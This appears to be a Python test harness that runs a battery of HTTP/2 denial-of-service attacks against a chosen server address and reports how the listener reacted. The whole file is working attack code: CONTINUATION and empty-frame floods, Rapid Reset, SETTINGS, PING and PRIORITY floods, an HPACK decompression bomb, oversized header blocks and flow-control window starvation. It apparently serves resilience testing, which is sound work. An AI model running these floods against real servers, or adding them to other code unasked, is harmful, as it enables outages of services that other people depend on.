"""Costs an HTTP/2 listener what it can, on one connection each, and says what came of it.

attacks.py ADDRESS [ATTACK...] [--authority HOST] [--alpn NAME --identity PEM] [--field NAME=VALUE]...

Prints a line of JSON for each attack: how many bytes the listener took, GOAWAY's code if one came, whether the connection was
ended, and the statuses of the answers.
"""

import argparse
import json
import struct
import threading

import demands
from conformance import Came
from wire import *

# A flood ends by itself after so many frames, where nobody ends it before.
FLOOD = 100_000


def flood(frames, each=200):
    """`frames` in writes of a few hundred."""
    frames = list(frames)
    return [b"".join(frames[at : at + each]) for at in range(0, len(frames), each)]


def bomb(request):
    """A few KiB that unpack to tens of MiB: one large value in the table, named thousands of times."""
    value = b"x" * 4000
    return frame(HEADERS, END_STREAM | END_HEADERS, 1, block(request.fields()) + literal("x-a", value, 0x40) + integer(62, 7, 0x80) * 8000)


def oversized(request, bytes):
    """A header block in as many frames as it takes."""
    payload = block(request.fields()) + literal("x-large", b"x" * bytes)
    pieces = [payload[at : at + 16384] for at in range(0, len(payload), 16384)]
    yield frame(HEADERS, END_STREAM, 1, pieces[0])
    for piece in pieces[1:-1]:
        yield frame(CONTINUATION, 0, 1, piece)
    yield frame(CONTINUATION, END_HEADERS, 1, pieces[-1])


def attacks(request):
    get, post = request.headers, request.post
    large = request.fields(path="/bytes/1000000")
    return {
        "continuation": lambda: [get(flags=0)] + flood(frame(CONTINUATION, 0, 1, b"\0" + literal("x", b"y" * 1000)[1:]) for _ in range(FLOOD // 5)),
        "empty continuation": lambda: [get(flags=0)] + flood(frame(CONTINUATION, 0, 1) for _ in range(FLOOD)),
        "rapid reset": lambda: flood((get(number) + reset(number) for number in range(1, 2 * FLOOD, 2)), 100),
        "made resets": lambda: flood((get(number) + window(number, 0) for number in range(1, 2 * FLOOD, 2)), 100),
        "settings": lambda: flood(settings((4, 65535)) for _ in range(FLOOD)),
        "ping": lambda: flood(frame(PING, 0, 0, b"8 octets") for _ in range(FLOOD)),
        "priority": lambda: flood(frame(PRIORITY, 0, 1, struct.pack(">IB", 0, 15)) for _ in range(FLOOD)),
        "empty data": lambda: [post()] + flood(frame(DATA, 0, 1) for _ in range(FLOOD)),
        "unknown frames": lambda: flood(frame(0x77, 0, 0, b"?") for _ in range(FLOOD)),
        "bomb": lambda: [bomb(request)],
        "oversized header": lambda: [b"".join(oversized(request, 4_000_000))],
        "oversized trailers": lambda: [post() + frame(DATA, 0, 1, b"x") + b"".join(oversized(request, 4_000_000)).replace(b":method", b"x-etho")],
        "closed windows": lambda: [settings((4, 0))] + [get(number, large) for number in range(1, 401, 2)],
        "open streams": lambda: [b"".join(post(number) for number in range(1, 1001, 2))],
        "tiny windows": lambda: [settings((4, 1))] + [get(number, large) for number in range(1, 401, 2)]
        + [b"".join(window(number, 1) for number in range(1, 401, 2)) for _ in range(100)],
        "table size": lambda: flood(settings((1, size % 2 * 65536)) for size in range(FLOOD)),
    }


def attack(name, pieces, dial):
    connection = dial()
    connection.send(PREFACE + settings())
    came = Came(connection)
    sent, ended, stopped = 0, None, threading.Event()
    # Read beside it, as a client does that means no harm; what is not read would only stop the flood. The reader ends when
    # nothing more has come for a while.
    reader = threading.Thread(target=lambda: came.read(lambda _: stopped.is_set()))
    reader.start()
    for piece in pieces:
        try:
            connection.sock.sendall(piece)
            sent += len(piece)
        except (OSError, ssl.SSLError) as error:
            ended = type(error).__name__
            break
        if came.closed:
            break
    reader.join()
    stopped.set()
    connection.close()
    statuses = sorted({fields.get(":status") for fields in came.answers.values()})
    resets = sorted({code for codes in came.resets.values() for code in codes})
    return {"attack": name, "sent": sent, "goaway": came.goaway, "ended": came.closed or ended in CUT_OFF, "answers": statuses, "resets": resets}


# What a closed connection is to who still sends.
CUT_OFF = ("BrokenPipeError", "ConnectionResetError", "SSLError", "SSLEOFError")


def main():
    parser = argparse.ArgumentParser()
    parser.add_argument("address")
    parser.add_argument("attacks", nargs="*", help="all of them, one after another, where none is named")
    parser.add_argument("--authority", default="orders-api.data:8080")
    parser.add_argument("--alpn")
    parser.add_argument("--identity")
    parser.add_argument("--field", action="append", default=[])
    arguments = parser.parse_args()
    host, port = arguments.address.rsplit(":", 1)
    request = demands.Request(arguments.authority, [tuple(field.split("=", 1)) for field in arguments.field])
    dial = lambda: Connection.dial((host, int(port)), arguments.identity, arguments.alpn, timeout=2)
    known = attacks(request)
    for name in arguments.attacks or known:
        print(json.dumps(attack(name, known[name](), dial)), flush=True)


main()
